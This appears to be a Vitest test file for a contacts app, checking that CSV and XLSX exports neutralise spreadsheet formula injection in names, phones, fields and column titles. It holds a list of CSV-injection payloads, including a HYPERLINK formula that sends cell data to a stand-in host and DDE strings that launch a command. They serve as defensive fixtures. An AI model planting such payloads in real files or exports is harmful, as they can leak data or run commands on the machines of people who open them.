import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterEach, describe, expect, it } from 'vitest';
import type { Contact } from '../../../shared/contacts';
import { startTestApp, type TestApp } from '../../helpers/contacts-app';
import { request } from '../../helpers/http';
import { tempDir } from '../../helpers/temp-dir';

let t: TestApp | undefined;
afterEach(async () => {
  await t?.close();
  t = undefined;
});

/** Names a hostile or careless list carries: each would run as a formula in Excel if written raw. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Clic")', "=cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '+52 cmd'];

async function download(url: string): Promise<string> {
  if (!t) throw new Error('no app');
  return (await request(t.server.port, { path: url, headers: { Authorization: `Bearer ${t.server.token}` } })).body.replace(/^\ufeff/, '');
}

describe('exports no spreadsheet reads as a formula, with phones still readable as text', () => {
  it('guards every trigger in the contacts CSV and the refused-rows CSV, and an export imported again reads the same', async () => {
    t = await startTestApp();
    const source = path.join(tempDir(), 'lista.csv');
    const rows = HOSTILE.map((name, i) => `"${name.replaceAll('"', '""')}",55 1234 56${String(i).padStart(2, '0')},"=1+1"`);
    // A leading tab, the usual defence, is trimmed on import: the export must guard the "=" it leaves.
    rows.push('"\t=1+2",55 1234 5699,Roma');
    // Refused rows keep their cells as they were: a formula in the phone column too.
    rows.push('Mal,"=2+2",Roma', 'Otro,"@x",Roma');
    fs.writeFileSync(source, ['Nombre,Teléfono,Colonia', ...rows].join('\n'));
    const imported = await t.importFile(source, { list: { name: 'Lista' } });
    expect(imported.summary).toMatchObject({ imported: 6, rejected: 2 });

    const file = await t.call<{ url: string }>('contacts.export', { filter: {}, format: 'csv' });
    const cells = parse(await download(file.url)) as string[][];
    expect(cells[0]).toEqual(['Nombre', 'Teléfono', 'Estado', 'WhatsApp', 'Colonia', 'Aceptó mensajes', 'Origen', 'Fecha del permiso']);
    const body = cells.slice(1);
    // Nothing a spreadsheet would run: a phone in E.164 is the one cell that may start with +, and goes as it is.
    for (const cell of body.flat()) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^(?!\+\d{7,15}$)[=+\-@\t\r]/);
    expect(body.map((r) => r[0]).sort()).toEqual([...HOSTILE, '=1+2'].map((n) => `'${n}`).sort());
    expect(body.map((r) => r[1])).toEqual(expect.arrayContaining(['+525512345600', '+525512345699']));
    expect(body.find((r) => r[0] === "'=1+2")?.[4]).toBe('Roma');

    const rejects = await t.call<{ url: string }>('contacts.importRejectsFile', { importId: imported.summary?.importId });
    const refused = (parse(await download(rejects.url)) as string[][]).slice(1);
    expect(refused.map((r) => [r[0], r[3]])).toEqual([['8', "'=2+2"], ['9', "'@x"]]);
    for (const cell of refused.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

  });

  it('an exported CSV imported again gives back the same names, phones and fields', async () => {
    t = await startTestApp();
    const source = path.join(tempDir(), 'lista.csv');
    fs.writeFileSync(source, ['Nombre,Teléfono,Colonia', ...HOSTILE.map((name, i) => `"${name.replaceAll('"', '""')}",55 1234 56${String(i).padStart(2, '0')},"=1+1"`)].join('\n'));
    await t.importFile(source, { list: { name: 'Lista' } });
    const before = (await t.call<{ rows: Contact[] }>('contacts.query', { offset: 0, limit: 50 })).rows.map((c) => [c.name, c.phone, c.fields]);
    const exported = path.join(tempDir(), 'contactos.csv');
    fs.writeFileSync(exported, `\ufeff${await download((await t.call<{ url: string }>('contacts.export', { filter: {}, format: 'csv' })).url)}`);
    const xlsx = await t.call<{ url: string }>('contacts.export', { filter: {}, format: 'xlsx' });
    const reply = await fetch(`http://127.0.0.1:${t.server.port}${xlsx.url}`, { headers: { Authorization: `Bearer ${t.server.token}` } });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await reply.arrayBuffer());
    // In the XLSX, phones and names are text cells: never numbers, never formulas.
    const sheet = workbook.worksheets[0];
    for (let r = 2; r <= (sheet?.rowCount ?? 0); r++) {
      expect(sheet?.getRow(r).getCell(2).type).toBe(ExcelJS.ValueType.String);
      expect(sheet?.getRow(r).getCell(1).type).toBe(ExcelJS.ValueType.String);
    }
    await t.close();

    t = await startTestApp();
    const reread = await t.importFile(exported, { list: { name: 'Otra vez' }, fieldColumns: [4] });
    expect(reread.summary).toMatchObject({ imported: HOSTILE.length, rejected: 0 });
    const after = (await t.call<{ rows: Contact[] }>('contacts.query', { offset: 0, limit: 50 })).rows.map((c) => [c.name, c.phone, c.fields]);
    expect(after).toEqual(before);
  });

  it('guards a column title too (a field named from the file), and writes thousands of refused rows in order, each once', async () => {
    t = await startTestApp();
    const hostileTitle = "=cmd|' /C calc'!A0";
    const source = path.join(tempDir(), 'titulos.csv');
    const good = Array.from({ length: 50 }, (_, i) => `Cliente ${i},55 1234 ${String(1000 + i)},Roma`);
    // More refused rows than one page of their CSV (2,000): every one comes out, in the file's order.
    const bad = Array.from({ length: 4500 }, (_, i) => `Mal ${i},12${i},Roma`);
    fs.writeFileSync(source, [`Nombre,Teléfono,"${hostileTitle.replaceAll('"', '""')}"`, ...good, ...bad].join('\n'));
    const imported = await t.importFile(source, { list: { name: 'Títulos' } });
    expect(imported.summary).toMatchObject({ imported: 50, rejected: 4500 });

    const contacts = parse(await download((await t.call<{ url: string }>('contacts.export', { filter: {}, format: 'csv' })).url)) as string[][];
    expect(contacts[0]?.[4]).toBe(`'${hostileTitle}`);
    const rejects = parse(await download((await t.call<{ url: string }>('contacts.importRejectsFile', { importId: imported.summary?.importId })).url)) as string[][];
    expect(rejects[0]).toEqual(['Fila', 'Motivo', 'Nombre', 'Teléfono', `'${hostileTitle}`]);
    expect(rejects.slice(1).map((r) => Number(r[0]))).toEqual(Array.from({ length: 4500 }, (_, i) => 52 + i));
    expect(rejects.at(-1)?.[2]).toBe('Mal 4499');
  });
});
